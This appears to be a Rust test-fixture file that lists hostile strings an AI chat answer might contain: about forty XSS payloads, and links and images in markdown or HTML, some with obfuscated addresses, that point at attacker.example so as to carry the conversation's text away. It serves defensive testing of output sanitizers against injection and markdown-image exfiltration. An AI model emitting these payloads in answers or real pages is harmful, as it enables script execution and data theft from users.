//! What hostile answers hold: markup that would act, and links and images that would carry words away.

/// Markup that would open a dialog or fetch something where it is taken for more than text.
pub const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://attacker.example/i.png>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=//attacker.example/e.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://attacker.example/a.mp3 autoplay>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://attacker.example/><button>Gửi</button></form>",
    "<a href=\"javascript:alert(1)\">bấm vào đây</a>",
    "<a href=\"&#106;avascript:alert(1)\">bấm vào đây</a>",
    "<link rel=stylesheet href=https://attacker.example/s.css>",
    "<style>@import url(https://attacker.example/s.css);</style>",
    "<p style=\"background:url(https://attacker.example/b.png)\">",
    "<meta http-equiv=refresh content=\"0;url=https://attacker.example/\">",
    "<base href=https://attacker.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</blockquote></article><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<dialog open>Đăng nhập lại</dialog>",
    "<marquee onstart=alert(1)>",
];

/// Ways to write a link or an image, `{}` where its address stands.
const FORMS: &[&str] = &[
    "![x]({})",
    "[xem thêm]({})",
    "[xem thêm]({} \"tiêu đề\")",
    "[xem thêm][r] [r]: {}",
    "<{}>",
    "{}",
    "<a href=\"{}\">xem</a>",
    "<img src=\"{}\">",
    "<iframe src={}>",
    "<link rel=prefetch href={}>",
    "url({})",
    "@import '{}'",
    "[![x]({})]({})",
    "<svg><image href=\"{}\"/></svg>",
    "<object data={}>",
    "<video poster={}>",
];

/// Ways to write the address: plain, without a scheme, hidden, in other letters.
const ADDRESSES: &[&str] = &[
    "https://attacker.example/?d=CAU-HOI",
    "http://attacker.example/?d=CAU-HOI",
    "//attacker.example/?d=CAU-HOI",
    "\\\\attacker.example\\x",
    "https:attacker.example",
    "htt\tps://attacker.example/",
    "HTTPS://ATTACKER.EXAMPLE/",
    "https://xn--attcker-6wa.example/",
    "https://аttacker.example/",
    "https://127.0.0.1@attacker.example/",
    "https://attacker.example:443/%2e%2e/",
    "ftp://attacker.example/x",
    "ws://attacker.example/",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "blob:https://attacker.example/x",
    "https://attacker.example/\u{202e}gpj.x",
];

/// Every link and image in every form.
pub fn links() -> Vec<String> {
    let forms = FORMS.iter();
    forms
        .flat_map(|form| ADDRESSES.iter().map(|address| form.replace("{}", address)))
        .collect()
}
